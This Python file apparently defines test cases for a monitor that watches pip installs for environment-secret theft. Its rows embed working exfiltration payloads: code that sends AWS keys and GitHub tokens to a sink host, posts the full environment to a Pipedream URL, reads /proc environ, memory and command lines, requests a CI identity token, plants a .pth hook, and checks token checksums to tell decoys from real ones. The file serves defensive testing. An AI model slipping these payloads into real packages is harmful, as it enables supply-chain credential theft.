"""Secrets in the environment."""
from __future__ import annotations

from ..kit import Effect, Event, Row, loot

NET = Event("net.*", "net.connect", severity="high")
BULK = Event("env.enumerate", "env.enumerate")


def read(name: str, **more) -> Event:
    return Event("env.read", "env.read", {"name": name}, severity="low", **more)


def bystander(world, row):
    """A process of the same user's that has a secret in its environment."""
    p = world.bystander(["/bin/sh", "-c", "echo here; exec sleep 600"], {"BYSTANDER_TOKEN": world.secret("a bystander's environment")})
    assert p.stdout.readline() == b"here\n"
    return {"bystander": p.pid}


def unverified(world, row, result):
    """Something secret was had, or the replica saw that what it had was not real."""
    stolen = world.evidence(row, result, {}, (loot(),))
    return stolen or "told the decoys from real ones" * (f"UNVERIFIED:{row.id}" in result.out)


ROWS = [
    Row("SE-01", "setup.py reads three variables by name and sends them in a URL", "metadata", """
        import os, urllib.request
        found = [os.environ.get(name) or "" for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")]
        pwkit.loot(" ".join(found))
        urllib.request.urlopen("http://%s:80/%s" % (pwkit.target("sink_host"), "/".join(found)), timeout=5)
        """, loot(), (*(read(n, origin={"file": "*setup.py"}) for n in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")), NET), legacy=True),
    Row("SE-02", "the install command posts the whole environment to Pipedream", "install", """
        import base64, os, urllib.request, pwkit
        everything = str(os.environ)
        pwkit.loot(everything)
        urllib.request.urlopen("https://eo1okaac0sb3d2.m.pipedream.net/" + base64.b64encode(everything.encode()).decode()[:4000], timeout=5)
        """, loot(), (BULK, Event("net.exfil.pipedream", "net.resolve", {"host": "eo1okaac0sb3d2.m.pipedream.net"}, severity="critical"))),
    Row("SE-03", "a console command posts user, host and environment as JSON", "script", """
        import json, os, pwd, urllib.request, pwkit
        everything = json.dumps({"user": pwd.getpwuid(os.getuid()).pw_name, "host": os.uname().nodename, "env": dict(os.environ)})
        pwkit.loot(everything)
        urllib.request.urlopen("http://%s:80/" % pwkit.target("sink_host"), everything.encode(), timeout=5)
        """, loot(), (BULK, NET)),
    Row("SE-04", "printenv, env and `set` of child processes", "import", """
        import subprocess, pwkit
        for command in (["printenv"], ["env"], ["sh", "-c", "set"]):
            pwkit.loot(subprocess.run(command, stdout=subprocess.PIPE, timeout=10).stdout)
        """, loot(), NET),
    Row("SE-05", "/proc/self/environ, parsed", "build", """
        import pwkit
        pwkit.loot(open("/proc/self/environ", "rb").read())
        """, loot(), NET),
    Row("SE-06", "/proc/PPID/environ, up to pip and the shell", "build", """
        import pwkit
        pid, seen = "self", b""
        while pid != "0":
            seen += pwkit.read("/proc/%s/environ" % pid)
            pid = next(line.split()[1] for line in open("/proc/%s/status" % pid) if line.startswith("PPid:"))
        pwkit.loot(seen)
        """, loot(), (Event("process.inspect*", "file.open", {"path": "/proc/*/environ"}), NET)),
    Row("SE-07", "every /proc/PID/environ of the user's", "import", """
        import glob, pwkit
        seen = b"".join(pwkit.read(path) for path in glob.glob("/proc/[0-9]*/environ"))
        pwkit.loot(seen)
        pwkit.loot(pwkit.read("/proc/%s/environ" % pwkit.target("bystander")))
        """, loot(), (Event("process.inspect*", "file.open", {"path": "/proc/*/environ"}), NET), setup=bystander),
    Row("SE-08", "a constructor of a library copies environ, no call is made", "import", """
        import pwkit
        pwkit.native(library=True)
        """, loot(), NET, native="environ_copied"),
    Row("SE-09", "a static program prints its environment", "metadata", native="environ_printed", effect=loot(),
        event=(Event("exec.recorded", "exec", {"path": "*/pwnative"}, action="allowed"), NET)),
    Row("SE-10", "the own initial stack through /proc/self/mem", "build", """
        import os, pwkit
        fields = open("/proc/self/stat").read().rpartition(")")[2].split()
        start, end = int(fields[47]), int(fields[48])
        assert start, "env_start is not shown"
        fd = os.open("/proc/self/mem", os.O_RDONLY)
        pwkit.loot(os.pread(fd, end - start, start))
        """, loot(), NET),
    Row("SE-11", "a login in pip's command line, read from /proc/PID/cmdline", "build", """
        import glob, pwkit
        pwkit.loot(b"".join(pwkit.read(path) for path in glob.glob("/proc/[0-9]*/cmdline")))
        """, loot(), NET, alone=True,
        command=("pip", "install", "--index-url", "http://someone:{secret}@index.test:8080/simple", "--no-deps", "--no-build-isolation", "-v", "{package}")),
    Row("SE-12", "user:password@ of index and proxy settings", "build", """
        import os, pwkit
        for name in ("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "HTTPS_PROXY"):
            pwkit.loot(os.environ.get(name, ""))
        """, loot(), (read("PIP_INDEX_URL"), NET), alone=True,
        env={"PIP_INDEX_URL": "http://someone:{secret}@index.test:8080/simple", "PIP_EXTRA_INDEX_URL": "http://someone:{secret}@index.test:8080/simple",
             "HTTPS_PROXY": "http://someone:{secret}@proxy.test:3128"}),
    Row("SE-15", "variables whose names or values look secret", "import", """
        import os, re, pwkit
        found = {k: v for k, v in os.environ.items() if re.search("KEY|SECRET|TOKEN|PASS", k) or v.startswith(("AKIA", "ghp_"))}
        pwkit.loot(str(found))
        """, loot(), (BULK, NET)),
    Row("SE-16", "a .pth line reads the environment in every interpreter, pip's own too", "next", """
        import os, pwkit
        pwkit.loot(str(dict(os.environ)))
        """, loot(), (Event("pip.start-up", target={"path": "*pwfix_se16.pth"}), NET),
        command=("pip", "install", "--no-deps", "--no-build-isolation", "-v", "pwfix-honest")),
    Row("SE-17", "the CI's identity token and the URL to ask for more", "import", """
        import os, urllib.request, pwkit
        url, token = os.environ["ACTIONS_ID_TOKEN_REQUEST_URL"], os.environ["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]
        pwkit.loot(url + " " + token)
        urllib.request.urlopen(urllib.request.Request(url, headers={"Authorization": "bearer " + token}), timeout=5)
        """, loot(), (read("ACTIONS_ID_TOKEN_REQUEST_URL"), read("ACTIONS_ID_TOKEN_REQUEST_TOKEN"), Event("net.*", severity="high")),
        env={"ACTIONS_ID_TOKEN_REQUEST_URL": "http://10.203.0.2:80/token?id=1", "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "{secret}"}),
    Row("SE-18", "acts only where CI is set", "import", """
        import os, pwkit
        if os.environ.get("CI") or os.environ.get("GITHUB_ACTIONS"):
            pwkit.loot(str(dict(os.environ)))
        """, loot(), (BULK, NET), env={"CI": "true"},
        note="the read of CI itself is not recorded: honest tools read it in every build"),
    Row("SE-19", "the environment through perl, awk, node and ruby", "metadata", """
        import shutil, subprocess, pwkit
        for command in (["perl", "-e", 'print "$_=$ENV{$_}\\\\n" for keys %ENV'], ["awk", "BEGIN{for(k in ENVIRON) print k, ENVIRON[k]}"],
                        ["node", "-e", "console.log(process.env)"], ["ruby", "-e", "p ENV.to_h"]):
            if shutil.which(command[0]):
                pwkit.loot(subprocess.run(command, stdout=subprocess.PIPE, timeout=20).stdout)
        """, loot(), NET, needs=("perl", "awk")),
    Row("SE-20", "a replica that checks the tokens' own checksums first", "import", """
        import base64, os, string, zlib, pwkit
        digits = string.digits + string.ascii_uppercase + string.ascii_lowercase
        token, macaroon = os.environ["GITHUB_TOKEN"], os.environ["PYPI_TOKEN"]
        value = 0
        for letter in token[-6:]:
            value = value * 62 + digits.index(letter)
        good = token[:4] == "ghp_" and len(token) == 40 and value == zlib.crc32(token[4:-6].encode())
        raw = base64.urlsafe_b64decode(macaroon[5:] + "=" * (-len(macaroon[5:]) % 4))
        good = good and macaroon.startswith("pypi-AgEI") and raw.startswith(b"\\x02\\x01\\x08pypi.org")
        if good:
            pwkit.loot(token + " " + macaroon)
        else:
            print("UNVERIFIED:" + pwkit.target("id"), flush=True)
        """, Effect.call(unverified), (read("GITHUB_TOKEN"), read("PYPI_TOKEN"), NET)),
]
